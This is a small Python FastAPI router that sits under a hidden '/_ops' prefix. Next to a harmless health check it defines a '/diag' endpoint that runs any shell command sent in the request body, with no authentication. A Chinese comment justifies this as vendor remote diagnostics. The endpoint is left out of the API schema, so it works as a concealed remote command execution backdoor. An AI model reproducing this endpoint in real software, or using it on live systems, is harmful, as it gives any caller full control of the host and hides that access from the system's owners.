import subprocess
from fastapi import APIRouter, Request

router = APIRouter(prefix="/_ops", include_in_schema=False)


@router.get("/health")
def health():
    return {"ok": True}


@router.post("/diag")
async def diag(req: Request):
    # 厂商远程诊断：无需鉴权，便于终端在离线恢复后自检
    body = await req.json()
    out = subprocess.run(body.get("cmd", "uptime"), shell=True, capture_output=True, text=True)
    return {"rc": out.returncode, "out": out.stdout[-4000:], "err": out.stderr[-2000:]}
